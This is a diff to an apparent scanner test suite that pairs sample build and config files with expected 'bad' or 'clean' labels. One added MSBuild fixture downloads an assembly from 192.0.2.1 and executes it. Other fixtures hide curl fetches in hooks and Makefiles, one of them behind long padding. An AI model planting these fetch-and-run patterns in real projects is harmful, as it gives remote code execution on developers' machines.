@@ -803,6 +803,9 @@ code("unasked-good/.githooks/post-checkout", "#!/bin/sh\ncurl -LsSf https://astr
 code("unasked-good/.envrc", "use flake\nsource <(kubectl completion bash)\ncurl -s https://x.example/rc >rc\n", "clean")
 code("unasked-good/Makefile", f"V := $(shell curl -s https://x.example/v | head -1)\ninstall:\n\t{FETCH}\n", "clean")
 code("unasked-good/pom.xml", f"<project><!-- <argument>{FETCH}</argument> --><argument>-c</argument><argument>npm ci &amp;&amp; npm run build</argument></project>\n", "clean")
+TASK = '<Project><UsingTask TaskName="A" TaskFactory="RoslynCodeTaskFactory"><Task><Code Type="Fragment" Language="cs"><![CDATA[\n%s\n]]></Code></Task></UsingTask></Project>\n'
+code("unasked/a.targets", TASK % 'var b = new System.Net.WebClient().DownloadData("http://192.0.2.1/a");\nSystem.Reflection.Assembly.Load(b).EntryPoint.Invoke(null, null);', "bad", "code.runs-fetched")
+code("unasked-good/a.targets", TASK % 'var t = System.IO.File.ReadAllText(File);\nSystem.IO.File.WriteAllText(File, t.Replace("@YEAR@", year));', "clean")
 code("unasked-long/a.csproj", "<Project><Exec Command=\"" + ": ; " * 600 + FETCH + "\" /></Project>\n", "unscanned", "code.limit")
 code("unasked-good/list.csproj", "<Project><None Include=\"" + "a/b.txt;" * 600 + "\" /></Project>\n", "clean")
 code("unasked-good/a.csproj", "<Project>\n <Target Name=\"a\"><Exec Command=\"powershell -f &quot;$(ProjectDir)s.ps1&quot;\" /></Target>\n</Project>\n", "clean")
